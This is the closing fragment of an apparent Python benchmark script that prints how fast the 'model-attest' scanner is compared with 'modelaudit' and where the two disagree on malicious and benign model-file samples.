        print(f"\nper target, CLI to CLI: model-attest is {ratio:.1f}x faster than modelaudit")
        print(f"non-benign samples modelaudit flags (critical) but not FAILED here: {weaker or 'none'}")
        print(f"non-benign samples modelaudit flags or warns about but PASSED here: {missed or 'none'}")
        print(f"modelaudit alarms or errors on benign samples: {false_alarms or 'none'}")
    sys.stdout.flush()


if __name__ == "__main__":
    main()
